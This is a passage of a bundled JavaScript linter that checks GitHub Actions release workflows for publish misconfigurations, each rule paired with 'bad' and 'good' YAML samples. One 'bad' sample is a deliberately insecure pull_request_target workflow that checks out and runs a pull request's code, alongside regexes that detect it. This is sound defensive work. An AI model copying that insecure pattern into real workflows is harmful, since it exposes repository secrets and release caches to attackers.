                        const pinned = pinnedNodeVersion(repository.scriptFiles);
                        const version = pinned && nodeVersionOf(pinned.spec);
                        if (!pinned || version === undefined || !npmTooOldFor(version))
                            continue;
                        report(job.node, `Job "${job.id}" publishes through trusted publishing (${publish.tool}, line ${line}) after \`${remote.uses}\` (line ${(0,rule/* stepAnchor */.AK)(remote).pos().line}) sets up its tools, which doctor cannot read: if it installs the Node that ${pinned.file} names (${pinned.spec}), that Node's npm is older than 11.5.1, never tries OIDC, and the publish fails with ENEEDAUTH or E404.`, {
                            key: true,
                            severity: 'note',
                            fix: `Pin Node 24 or later in ${pinned.file}, or add \`run: npm install -g npm@^11.5.1\` before the publish.`,
                        });
                        continue;
                    }
                    report(job.node, `Job "${job.id}" publishes through trusted publishing (${publish.tool}, line ${line}) with the runner's own Node and npm (Node 20 with npm 10 on ubuntu-latest): npm before 11.5.1 never tries OIDC, so the publish fails with ENEEDAUTH or E404.`, {
                        key: true,
                        fix: 'Add actions/setup-node with `node-version: 24` before the publish (or `run: npm install -g npm@^11.5.1` on Node 22.14 or later).',
                    });
                    continue;
                }
                const input = setup.with?.get('node-version');
                const spec = resolveActionInput(setup, input?.str());
                if (spec === undefined || spec.includes('${{'))
                    continue;
                const version = nodeVersionOf(spec);
                if (version === undefined || version === 'new')
                    continue;
                const anchor = setup.via ? (0,rule/* stepAnchor */.AK)(setup) : input;
                const below2214 = version.major < 22 || (version.major === 22 && version.minor < 14);
                if (below2214) {
                    report(anchor, `Node ${spec} is below 22.14.0, the minimum npm documents for trusted publishing, and its npm (10 or older) never tries OIDC: ${publish.tool} (line ${line}) fails with ENEEDAUTH or E404.`, {
                        key: !setup.via,
                        fix: 'Use `node-version: 24` in setup-node for the publishing job.',
                    });
                }
                else if (!upgraded &&
                    (version.major < 24 || (version.major === 24 && version.exact && version.minor < 5))) {
                    report(anchor, `Node ${spec} bundles npm ${version.major === 24 ? '11.3 or 11.4' : '10'}, older than 11.5.1, and nothing upgrades npm before ${publish.tool} (line ${line}): npm never tries OIDC and the publish fails with ENEEDAUTH or E404.`, {
                        key: !setup.via,
                        fix: 'Use `node-version: 24`, or add `run: npm install -g npm@^11.5.1` before the publish.',
                    });
                }
            }
        }
    },
};

// EXTERNAL MODULE: ./packages/release-tools/src/shell-commands.ts
var shell_commands = __webpack_require__(59160);
;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/triggers.ts
// When a release workflow runs: triggers that never fire or fire too often, runs that race or
// cancel each other, and pull_request_target running a pull request's code.







/** The node to point at for an event of `on:`; `key` when the event is a map key. */
function eventAnchor(workflow, name) {
    const on = workflow.on;
    if (on?.isMap()) {
        const value = on.get(name);
        if (value)
            return { node: value, key: true };
    }
    if (on)
        return { node: on, needle: name };
    return { node: workflow.node };
}
function tagPushTrigger(workflow) {
    const push = workflow.events.get('push');
    return push?.get('tags') !== undefined;
}
const deadPublishTrigger = {
    id: 'dead-publish-trigger',
    severity: 'error',
    title: 'A publish waits for a release or tag that this repository creates with GITHUB_TOKEN (it never fires).',
    why: 'Events caused by GITHUB_TOKEN start no workflow (only workflow_dispatch and repository_dispatch are exempt). When one workflow creates the release or pushes the tag with GITHUB_TOKEN and another publishes `on: release` or `on: push: tags`, the publish never runs: versions are tagged and announced but never reach the registry (a dead publish path).',
    fix: 'Publish in the workflow that creates the release, in a job that needs the release job; or create the release with a GitHub App token; or have the creating workflow start the publishing one with `gh workflow run` (workflow_dispatch).',
    context: {
        '.github/workflows/release-please.yml': `on: { push: { branches: [main] } }
permissions: {}
jobs:
  release-please:
    runs-on: ubuntu-latest
    permissions: { contents: write, pull-requests: write }
    steps:
      - uses: googleapis/release-please-action@16a9c90856f42705d54a6fda1823352bdc62cf38 # v4.4.0
`,
    },
    bad: `# Waits for the releases release-please.yml creates with GITHUB_TOKEN:
on:
  release:
    types: [published]
permissions: {}
concurrency: { group: publish, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    good: `# The release and the publish in one workflow, one job after the other:
on:
  push:
    branches: [main]
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  release-please:
    runs-on: ubuntu-latest
    permissions: { contents: write, pull-requests: write }
    outputs:
      created: \${{ steps.release.outputs.release_created }}
    steps:
      - id: release
        uses: googleapis/release-please-action@16a9c90856f42705d54a6fda1823352bdc62cf38 # v4.4.0
  publish:
    needs: release-please
    if: needs.release-please.outputs.created == 'true'
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    check({ repository, facts, report }) {
        const creators = repository.workflows
            .filter((workflow) => !facts.publishesInWorkflow(workflow))
            .flatMap((workflow) => workflow.jobs.flatMap((job) => facts.jobTags(job)))
            .filter((creation) => creation.token === 'github-token');
        for (const workflow of repository.workflows) {
            if (!facts.publishesInWorkflow(workflow))
                continue;
            const others = creators.filter((creation) => creation.step.job?.workflow.file !== workflow.file);
            const triggers = [];
            if (workflow.events.has('release'))
                triggers.push(['release', others.filter((c) => c.kind === 'release')]);
            if (tagPushTrigger(workflow))
                triggers.push(['push', others]);
            for (const [event, matching] of triggers) {
                const creation = matching[0];
                if (!creation)
                    continue;
                const where = `${creation.step.job.workflow.file.rel}:${(0,rule/* stepAnchor */.AK)(creation.step).pos().line}`;
                const what = event === 'release'
                    ? 'a release is published (`release:`)'
                    : 'a tag is pushed (`push: tags`)';
                const anchor = eventAnchor(workflow, event);
                report(anchor.node, `This workflow publishes when ${what}, but ${event === 'release' ? 'the releases' : 'the tags'} of this repository are created by ${creation.tool} in ${where} with GITHUB_TOKEN, and events caused by GITHUB_TOKEN start no workflow: this publish never runs, and the versions tagged there never reach the registry.`, {
                    key: anchor.key,
                    needle: anchor.needle,
                });
            }
        }
    },
};
const OVERLAPS = [
    ['created', 'published', 'a release published at once (not saved as a draft first) fires both'],
    ['published', 'released', 'publishing a stable release fires both'],
    ['published', 'prereleased', 'publishing a prerelease fires both'],
    ['created', 'released', 'a stable release published at once fires both'],
    ['created', 'prereleased', 'a prerelease published at once fires both'],
];
const releaseTriggerTypes = {
    id: 'release-trigger-types',
    severity: 'warning',
    title: 'A publishing `release:` trigger without `types: [published]`, or with types that fire twice for one release.',
    why: '`release:` without `types` runs for every activity (created, edited, published, prereleased, released, deleted...): one release starts the publish two or three times, and editing the notes publishes again. Some pairs of types fire together for one release, and `prereleased` does not fire for a prerelease published from a draft.',
    fix: 'Use `types: [published]`: it fires once per release, drafts included, prereleases included.',
    bad: `on:
  release:
permissions: {}
concurrency: { group: publish, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    good: `on:
  release:
    types: [published]
permissions: {}
concurrency: { group: publish, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            if (!workflow.events.has('release') || !facts.publishesInWorkflow(workflow))
                continue;
            const anchor = eventAnchor(workflow, 'release');
            const typesNode = workflow.events.get('release')?.get('types');
            const types = typesNode?.strings() ?? [];
            if (types.length === 0) {
                report(anchor.node, '`release:` has no `types:`, so this workflow runs for every release activity (created, edited, published, prereleased, released, deleted...): one release starts the publish two or three times, and editing its notes publishes again.', {
                    key: anchor.key,
                    needle: anchor.needle,
                });
                continue;
            }
            const overlap = OVERLAPS.find(([a, b]) => types.includes(a) && types.includes(b));
            if (overlap) {
                report(typesNode, `\`types: [${types.join(', ')}]\`: ${overlap[2]} \`${overlap[0]}\` and \`${overlap[1]}\`, so the publish runs twice for one release and the second run fails on "version already exists" (or uploads a rebuilt file).`);
                continue;
            }
            const repeating = types.filter((type) => ['edited', 'deleted', 'unpublished'].includes(type));
            if (repeating.length > 0) {
                report(typesNode, `\`types:\` includes ${repeating.map((type) => `\`${type}\``).join(', ')}: editing or removing a release starts the publish again.`);
            }
            else if (types.includes('prereleased') && !types.includes('published')) {
                report(typesNode, '`prereleased` does not fire for a prerelease published from a draft (only `published` does): prereleases drafted first are never published.');
            }
        }
    },
};
const PR_HEAD = /^github\.(event\.pull_request\.head\.|head_ref$)/;
const FETCHES_PR = /\b(gh pr checkout|git (checkout|fetch)\b.*(pull\/|head_ref|pull_request\.head))/;
/**
 * Commands that only read or move files, talk to git or GitHub, or print: run in a pull
 * request's tree, they execute none of it.
 */
const INERT = new Set('git gh echo printf cat head tail ls pwd cd pushd popd test [ [[ true false : exit set export unset shopt mkdir rmdir cp mv rm touch ln chmod jq yq grep egrep fgrep sed awk sort uniq wc cut tr tee diff cmp comm find basename dirname realpath readlink date sleep tar zip unzip gzip gunzip xz sha1sum sha256sum sha512sum md5sum base64 curl wget stat file du df whoami id hostname printenv'.split(' '));
/** Programs that run the file named by their first operand. */
const INTERPRETERS = /^(python[\d.]*|py|node|deno|bun|bash|sh|zsh|dash|ksh|ruby|perl|php|pwsh|powershell|tsx|ts-node|source|\.)$/;
/** Options that name the directory a tool works in (`make -C dir`, `npm --prefix dir`). */
const DIRECTORY_OPTIONS = new Set([
    '-C',
    '--prefix',
    '--cwd',
    '--dir',
    '--directory',
    '--project',
    '--manifest-path',
    '--working-directory',
]);
/** A folder as a plain relative path (`./a/b/` → `a/b`; the workspace root → ''). */
function folder(path) {
    const normal = external_node_path_.posix.normalize((path ?? '').trim().replace(/^\$\{\{\s*github\.workspace\s*\}\}\/?/, ''));
    return normal === '.' || normal === './' ? '' : normal.replace(/^\.\//, '').replace(/\/+$/, '');
}
/** Whether `path` (a relative path as written) is `dir` or inside it. */
function inside(path, dir) {
    const normal = folder(path);
    if (normal.startsWith('/') || normal.startsWith('..'))
        return false;
    return dir === '' || normal === dir || normal.startsWith(`${dir}/`);
}
/** The working directory of a `run:` step: its own, or the job's or the workflow's default. */
function workingDirectory(step, job) {
    const own = step.node.get('working-directory')?.str();
    if (own !== undefined || step.via)
        return own;
    const defaults = (node) => node?.get('defaults')?.get('run')?.get('working-directory')?.str();
    return defaults(job.node) ?? defaults(job.workflow.node);
}
/** The command, of those given, that runs code from the pull request's tree in `dir`. */
function executingCommand(commands, dir, startInside) {
    let within = startInside;
    for (const command of commands) {
        const words = command.words;
        const first = words[0] ?? '';
        if (first === 'cd' || first === 'pushd') {
            const target = words.slice(1).find((word) => !word.startsWith('-'));
            if (target !== undefined)
                within = inside(target, dir);
            continue;
        }
        if (within && !INERT.has(first))
            return command;
        if (first.includes('/') && inside(first, dir))
            return command;
        if (INERT.has(first))
            continue;
        const tool = (0,src_commands/* toolWords */.yy)(words);
        if (INTERPRETERS.test(tool[0] ?? '')) {
            const script = tool.slice(1).find((word) => !word.startsWith('-'));
            if (script !== undefined && script.includes('/') && inside(script, dir))
                return command;
        }
        for (let index = 1; index < words.length; index++) {
            const word = words[index];
            const [option, value] = word.includes('=') ? word.split('=', 2) : [word, words[index + 1]];
            if (DIRECTORY_OPTIONS.has(option) && value !== undefined && inside(value, dir))
                return command;
        }
        if (/^(install|add|i|wheel|build|sync)$/.test(tool[1] ?? '') || tool[0] === 'pip')
            if (tool.slice(2).some((word) => /^(\.|\.\.)?\//.test(word) && inside(word, dir)))
                return command;
    }
    return undefined;
}
/** A step of `job` after `from` (or, for a `run:` that fetches it, its own later commands) that runs the tree checked out into `dir`. */
function executesCheckout(job, from, dir, otherFolders, facts, restOfScript) {
    const where = (step) => `line ${(0,rule/* stepAnchor */.AK)(step).pos().line}`;
    const startsInside = (step) => {
        const wd = workingDirectory(step, job);
        if (wd === undefined)
            return dir === '';
        if (otherFolders.some((other) => other !== '' && inside(wd, other)))
            return false;
        return inside(wd, dir);
    };
    const own = executingCommand(restOfScript, dir, startsInside(from));
    if (own)
        return `\`${(0,rule/* truncate */.xv)(own.text, 60)}\`, ${where(from)}`;
    for (const step of job.steps.slice(job.steps.indexOf(from) + 1)) {
        const local = (0,source_model/* localPath */.$S)(step.uses);
        if (local !== undefined && !(0,source_model/* isSelfRepositoryRef */.g5)(step.uses) && inside(local, dir))
            return `the local action \`${step.uses}\`, ${where(step)}`;
        if (step.run !== undefined) {
            const command = executingCommand((0,shell_commands/* commandsIn */.G)(step.run), dir, startsInside(step));
            if (command)
                return `\`${(0,rule/* truncate */.xv)(command.text, 60)}\`, ${where(step)}`;
        }
        else if (step.uses !== undefined && local === undefined) {
            const runs = facts.tests(step) ?? facts.build(step);
            const into = (step.with?.entries() ?? []).some(([, value]) => {
                const text = value.str();
                return text !== undefined && /^\.?\.?\//.test(text) && inside(text, dir);
            });
            if (runs !== undefined && (dir === '' || into))
                return `\`${step.uses}\`, which runs \`${(0,rule/* truncate */.xv)(runs, 40)}\`, ${where(step)}`;
        }
    }
    return undefined;
}
/** A step of a release workflow that restores a cache, if any. */
function releaseCache(repository, facts) {
    for (const workflow of repository.workflows) {
        if (!facts.isReleaseWorkflow(workflow))
            continue;
        for (const job of workflow.jobs)
            for (const step of job.steps)
                if ((0,step_kinds/* cacheOf */.w7)(step))
                    return { step, workflow };
    }
    return undefined;
}
const pullRequestTargetCheckout = {
    id: 'pull-request-target-checkout',
    severity: 'error',
    title: "`pull_request_target` checks out the pull request's code.",
    why: "`pull_request_target` runs with the base repository's secrets and a writable GITHUB_TOKEN, and can write the caches a release restores. Checking out the pull request's head there and then running anything from it (its install scripts, tests, build, a local action) runs a stranger's code with all of that: an error. A checkout nothing in the job runs is a warning when it fills the workspace (one step added later is enough), and a note when it sits in a folder of its own that no step runs anything from (read as data, such as documentation handed to a site builder).",
    fix: 'Run anything that builds or tests the pull request under `pull_request` (no secrets, read-only token); keep `pull_request_target` for labels and comments, without checking out the head.',
    bad: `on: pull_request_target
permissions: { contents: read }
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm test
`,
    good: `on: pull_request
permissions: { contents: read }
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - run: npm ci && npm test
`,
    check({ repository, facts, report }) {
        let cache = null;
        const poison = () => {
            if (cache === null)
                cache = releaseCache(repository, facts);
            if (!cache)
                return '';
            return `, and can poison the caches the release restores (${cache.step.uses ?? 'a cache'} in ${cache.workflow.file.rel}:${(0,rule/* stepAnchor */.AK)(cache.step).pos().line})`;
        };
        for (const workflow of repository.workflows) {
            if (!workflow.events.has('pull_request_target'))
                continue;
            for (const job of workflow.jobs) {
                const folders = job.steps
                    .filter((step) => (0,source_model/* actionName */.aM)(step.uses) === 'actions/checkout')
                    .map((step) => folder(step.with?.get('path')?.str()));
                const judge = (step, node, does, dir, rest, options) => {
                    const others = folders.filter((each) => each !== dir);
                    const runs = executesCheckout(job, step, dir, others, facts, rest);
                    const head = `This workflow runs on \`pull_request_target\` (with this repository's secrets and a writable GITHUB_TOKEN) and ${does} in job "${job.id}"`;
                    if (runs) {
                        report(node, `${head}, then runs it (${runs}): anyone who opens a pull request runs their code here${poison()}.`, options);
                    }
                    else if (dir === '') {
                        report(node, `${head}, into the workspace. No later step of the job installs, builds, tests or runs anything from it, so today it is only read; but any step added after it that does runs a stranger's code with those secrets.`, { ...options, severity: 'warning' });
                    }
                    else {
                        report(node, `${head}, into \`${dir}\`, and no later step runs anything from that folder: it is only read, as data. A step that installs, builds or runs code from \`${dir}\` would run a stranger's code with those secrets.`, { ...options, severity: 'note' });
                    }
                };
                for (const step of job.steps) {
                    const checkout = (0,source_model/* actionName */.aM)(step.uses) === 'actions/checkout';
                    const inputs = checkout ? [step.with?.get('ref'), step.with?.get('repository')] : [];
                    for (const input of inputs) {
                        const text = input?.str();
                        if (!input || !text)
                            continue;
                        if ((0,context_references/* contextReferences */.Q)(text).some((path) => PR_HEAD.test(path)) ||
                            /refs\/pull\//.test(text)) {
                            judge(step, step.via ? (0,rule/* stepAnchor */.AK)(step) : input, `checks out the pull request's code (\`${text}\`)`, folder(step.with?.get('path')?.str()), [], { key: !step.via });
                            break;
                        }
                    }
                    const run = step.run;
                    if (run && FETCHES_PR.test(run)) {
                        const line = run
                            .split('\n')
                            .find((each) => /gh pr checkout|git (checkout|fetch)/.test(each))
                            .trim();
                        const commands = (0,shell_commands/* commandsIn */.G)(run);
                        const at = commands.findIndex((command) => FETCHES_PR.test(command.text));
                        judge(step, step.via ? (0,rule/* stepAnchor */.AK)(step) : step.runNode, "fetches the pull request's code", folder(workingDirectory(step, job)), at < 0 ? [] : commands.slice(at + 1), { needle: step.via ? undefined : line });
                    }
                }
            }
        }
    },
};
function releaseJobs(workflow, facts) {
    return workflow.jobs.filter((job) => facts.publishesAnywhere(job) || facts.jobTags(job).length > 0);
}
const releaseWithoutConcurrency = {
    id: 'release-without-concurrency',
    severity: 'warning',
    title: 'A release workflow has no `concurrency:`.',
    why: 'Two runs of one release (a second click on "Run workflow", a tag pushed again, a rerun while the first still waits for approval) run side by side: both publish, one fails halfway on "version already exists", and tags and releases interleave.',
    fix: 'Add `concurrency: { group: release-${{ github.ref }}, cancel-in-progress: false }` at the top of the workflow.',
    bad: `on: { workflow_dispatch: {} }
permissions: {}
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    good: `on: { workflow_dispatch: {} }
permissions: {}
concurrency:
  group: release-\${{ github.ref }}
  cancel-in-progress: false
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            if (workflow.concurrency)
                continue;
            const events = [...workflow.events.keys()];
            if (events.length === 0 || events.every((event) => event === 'workflow_call'))
                continue;
            const jobs = releaseJobs(workflow, facts);
            if (jobs.length === 0 || jobs.every((job) => job.concurrency))
                continue;
            report(workflow.on ?? workflow.node, `This workflow releases (job${jobs.length > 1 ? 's' : ''} ${jobs.map((job) => `"${job.id}"`).join(', ')}) but has no \`concurrency:\`: two runs for one version (a second dispatch, a re-pushed tag, a rerun while the first waits for approval) publish side by side, and one fails halfway on "version already exists".`, { key: workflow.on !== undefined });
        }
    },
};
const COMMIT_KEYS = new Set(['github.sha', 'github.event.after', 'github.event.head_commit.id']);
const REF_KEYS = new Set([
    'github.ref',
    'github.ref_name',
    'github.head_ref',
    'github.event.release.tag_name',
    'github.event.release.id',
    'github.event.inputs.version',
    'inputs.version',
    'inputs.tag',
]);
/**
 * What a concurrency group is keyed on: the commit (`github.sha`: two runs of one commit are
 * the only ones that meet), the ref (`github.ref`: one tag or one branch), or neither.
 */
function groupKey(concurrency) {
    const paths = (0,context_references/* contextReferences */.Q)(concurrency?.get('group')?.str() ?? '');
    if (paths.some((path) => COMMIT_KEYS.has(path)))
        return 'commit';
    if (paths.some((path) => REF_KEYS.has(path)))
        return 'ref';
    return undefined;
}
/** A workflow that releases only on a tag push or a release (pull requests release nothing). */
function releasesOnlyOnTags(workflow) {
    let releases = false;
    for (const [name, value] of workflow.events) {
        if (name === 'pull_request' || name === 'merge_group')
            continue;
        const tagPush = name === 'push' && value?.get('tags') !== undefined && value.get('branches') === undefined;
        if (name !== 'release' && !tagPush)
            return false;
        releases = true;
    }
    return releases;
}
/** A term that holds only for a release or a tag. */
const TAG_ONLY_TERM = /event_name\s*==\s*'release'|github\.event\.action\s*==\s*'published'|startsWith\(\s*github\.ref\s*,\s*'refs\/tags\/?'\s*\)|github\.ref_type\s*==\s*'tag'/;
/**
 * The branches of an expression's outermost `||` (`a || (b && c)` gives `a` and `(b && c)`);
 * an `||` inside parentheses or quotes stays in its branch.
 */
function orBranches(expression) {
    const branches = [];
    let depth = 0;
    let quoted = false;
    let start = 0;
    for (let at = 0; at < expression.length; at++) {
        const char = expression[at];
        if (char === "'")
            quoted = !quoted;
        else if (quoted)
            continue;
        else if (char === '(')
            depth++;
        else if (char === ')')
            depth--;
        else if (depth === 0 && expression.startsWith('||', at)) {
            branches.push(expression.slice(start, at));
            start = at + 2;
            at++;
        }
    }
    branches.push(expression.slice(start));
    return branches;
}
/** Where the parenthesis that opens `text` closes (-1 when it does not). */
function closingParenthesis(text) {
    let depth = 0;
    let quoted = false;
    for (let at = 0; at < text.length; at++) {
        if (text[at] === "'")
            quoted = !quoted;
        else if (quoted)
            continue;
        else if (text[at] === '(')
            depth++;
        else if (text[at] === ')' && --depth === 0)
            return at;
    }
    return -1;
}
/**
 * One `||` branch that holds only for a release or a tag: it names a tag-only term and negates
 * nothing; a whole branch in parentheses is split again.
 */
function branchIsTagOnly(branch) {
    const text = branch.trim();
    if (text.startsWith('(') && closingParenthesis(text) === text.length - 1) {
        const inner = orBranches(text.slice(1, -1));
        if (inner.length > 1)
            return inner.every(branchIsTagOnly);
    }
    return TAG_ONLY_TERM.test(text) && !/!(?!=)/.test(text) && !/\|\|/.test(text);
}
/**
 * A job whose `if:` lets it run only for a release or a tag (`github.event_name == 'release'`,
 * `github.event.action == 'published'`), or that waits for such a job (a skipped job skips the
 * jobs that need it, unless their `if:` says `always()`).
 */
function jobRunsOnlyOnTags(job) {
    const condition = job.if?.str() ?? '';
    const branches = orBranches(condition.replace(/^\s*\$\{\{([\s\S]*)\}\}\s*$/, '$1'));
    const own = (0,job_conditions/* requiresTag */.Dc)(job) || (condition.trim() !== '' && branches.every(branchIsTagOnly));
    if (own)
        return true;
    if (/\b(always|failure|cancelled)\(/.test(condition))
        return false;
    const byId = new Map(job.workflow.jobs.map((each) => [each.id, each]));
    return job.needs.some((id) => {
        const upstream = byId.get(id);
        return upstream !== undefined && upstream !== job && jobRunsOnlyOnTags(upstream);
    });
}
/**
 * A concurrency group that reads the run's own id or number (`${{ github.head_ref || github.run_id }}`):
 * outside pull requests every run has a group of its own, so a newer one cancels nothing.
 */
function groupIsPerRun(concurrency) {
    const group = concurrency?.get('group')?.str() ?? '';
    return (0,context_references/* contextReferences */.Q)(group).some((path) => path === 'github.run_id' || path === 'github.run_number');
}
const releaseCancelInProgress = {
    id: 'release-cancel-in-progress',
    severity: 'error',
    title: '`cancel-in-progress: true` on a release workflow or a publishing job.',
    why: 'A newer run cancels the one in progress wherever it is: between the npm and the PyPI upload, after the tag but before the release, halfway through a monorepo\'s packages. The release is left half done and a rerun meets "version already exists". A group that reads `github.run_id` (the usual `${{ github.head_ref || github.run_id }}`) is unique to each run outside pull requests, so it cancels nothing there and is not reported; nor is a group keyed on the commit (`github.sha`), or on the ref (`github.ref`) of a workflow that releases only on tags or releases (each release has a ref of its own). A group keyed on a branch is a warning: only a newer push to the same branch cancels. A job that only uploads a test build to TestPyPI on branch pushes releases nothing and is not counted; a job that waits for a tag-only job runs only on tags.',
    fix: 'Use `cancel-in-progress: false`: the second run waits for the first to finish.',
    bad: `on: { push: { branches: [main] } }
permissions: {}
concurrency:
  group: release
  cancel-in-progress: true
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    good: `on: { push: { branches: [main] } }
permissions: {}
concurrency:
  group: release
  cancel-in-progress: false
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            // A job that only uploads a test build to TestPyPI on branch pushes releases nothing.
            const jobs = releaseJobs(workflow, facts).filter((job) => {
                const publishes = facts.jobPublishes(job);
                return (facts.jobTags(job).length > 0 ||
                    publishes.length === 0 ||
                    !publishes.every((each) => testPypiFixture(job, each, facts)));
            });
            if (jobs.length === 0)
                continue;
            const places = [
                [workflow.concurrency, 'this workflow'],
                ...jobs.map((job) => [job.concurrency, `job "${job.id}"`]),
            ];
            for (const [concurrency, what] of places) {
                const cancel = concurrency?.get('cancel-in-progress');
                if (cancel?.str() !== 'true' || groupIsPerRun(concurrency))
                    continue;
                const key = groupKey(concurrency);
                const tagsOnly = releasesOnlyOnTags(workflow) || jobs.every(jobRunsOnlyOnTags);
                if (key === 'commit' || (key === 'ref' && tagsOnly))
                    continue;
                if (key === 'ref') {
                    report(cancel, `\`cancel-in-progress: true\` on ${what}, which releases, in a group keyed on the branch: a newer push or dispatch on the same branch cancels this run wherever it is (between two packages, after the tag but before the release), and the rerun meets "version already exists".`, { key: true, severity: 'warning' });
                    continue;
                }
                report(cancel, `\`cancel-in-progress: true\` on ${what}, which releases: a newer run cancels this one wherever it is (between the npm and the PyPI upload, after the tag but before the release), leaving a half-done release that a rerun cannot finish ("version already exists").`, { key: true });
            }
        }
    },
};
const CONCLUSION_SUCCESS = /github\.event\.workflow_run\.conclusion\s*==\s*'success'|'success'\s*==\s*github\.event\.workflow_run\.conclusion/;
/** Whether the job, a job it waits for, or the step checks that the upstream run succeeded. */
function checksUpstreamSuccess(job, step) {
    const chain = [job, ...(0,source_model/* upstreamJobs */.oZ)(job)];
    const conditions = chain.map((each) => each.if?.str() ?? '');
    if (step)
        conditions.push(step.if?.str() ?? '', step.via?.if?.str() ?? '');
    if (conditions.some((condition) => CONCLUSION_SUCCESS.test(condition)))
        return true;
    // A gate job (one this job waits for) whose script reads the conclusion and sets an output
    // that the `if:` of this job, or of a job between, reads through `needs`.
    return (0,source_model/* upstreamJobs */.oZ)(job).some((gate) => gate.steps.some((each) => (0,context_references/* contextReferences */.Q)(each.run ?? '').includes('github.event.workflow_run.conclusion')) &&
        conditions.some((condition) => (0,context_references/* contextReferences */.Q)(condition, 'expression').some((path) => path.startsWith(`needs.${gate.id}.outputs.`))));
}
const workflowRunUnchecked = {
    id: 'workflow-run-unchecked',
    severity: 'error',
    title: 'A publish started by `workflow_run` does not check that the upstream run succeeded (it publishes after failed CI).',
    why: "`workflow_run` with `types: [completed]` starts the workflow whenever the upstream workflow ends, whatever its conclusion: failed, cancelled or skipped runs trigger it too. A publishing job that does not check `github.event.workflow_run.conclusion == 'success'` releases the commit whose tests just failed. A check in the script of a job it needs counts when the publishing job's `if:` (or that of a job between) reads that job's outputs.",
    fix: "Add `if: github.event.workflow_run.conclusion == 'success'` to the publishing job (or to a job it needs); with other triggers too: `if: github.event_name != 'workflow_run' || github.event.workflow_run.conclusion == 'success'`.",
    bad: `on:
  workflow_run:
    workflows: [CI]
    types: [completed]
    branches: [main]
permissions: {}
concurrency: { group: publish, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    good: `on:
  workflow_run:
    workflows: [CI]
    types: [completed]
    branches: [main]
permissions: {}
concurrency: { group: publish, cancel-in-progress: false }
jobs:
  publish:
    if: github.event.workflow_run.conclusion == 'success'
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            if (!workflow.events.has('workflow_run'))
                continue;
            const others = [...workflow.events.keys()].filter((event) => event !== 'workflow_run');
            for (const job of workflow.jobs) {
                const publish = facts.jobPublishes(job)[0];
                if (!publish || checksUpstreamSuccess(job, publish.step))
                    continue;
                report((0,rule/* stepAnchor */.AK)(publish.step), `Job "${job.id}" publishes (${publish.tool}) when the workflow_run trigger fires, and nothing checks github.event.workflow_run.conclusion: the trigger fires when the upstream run completes, failed or cancelled too, so a commit whose CI failed is published.${others.length > 0 ? ` (The ${others.join(', ')} trigger${others.length > 1 ? 's are' : ' is'} judged on ${others.length > 1 ? 'their' : 'its'} own.)` : ''}`, { needle: publish.needle.split('\n')[0] });
            }
        }
    },
};

;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/index.ts









const RULES = [
    publishWithoutEnvironment,
    idTokenAtWorkflowLevel,
    publishWithoutIdToken,
    longLivedToken,
    setupNodeRegistryUrl,
